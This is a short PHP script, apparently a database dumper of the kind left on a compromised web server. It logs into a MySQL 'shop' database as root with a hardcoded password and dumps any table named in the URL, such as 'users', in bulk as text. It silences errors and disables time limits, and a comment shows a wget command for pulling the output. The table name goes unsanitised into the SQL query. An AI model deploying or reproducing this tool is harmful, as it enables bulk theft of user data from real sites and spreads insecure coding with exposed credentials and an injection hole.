<?php
// usage: wget "http://host/d.php?t=users&from=0&to=100000" -O out.txt
error_reporting(0);
ignore_user_abort(true);
set_time_limit(0);
$link = mysqli_connect("localhost", "root", "toor", "shop");
$t = $_GET['t'];
$from = intval($_GET['from']);
$to = intval($_GET['to']);
for ($i = $from; $i < $to; $i += 5000) {
    $r = mysqli_query($link, "SELECT * FROM `" . $t . "` limit " . $i . ",5000");
    while ($row = mysqli_fetch_row($r)) {
        echo implode("\t", $row) . "\n";
    }
}
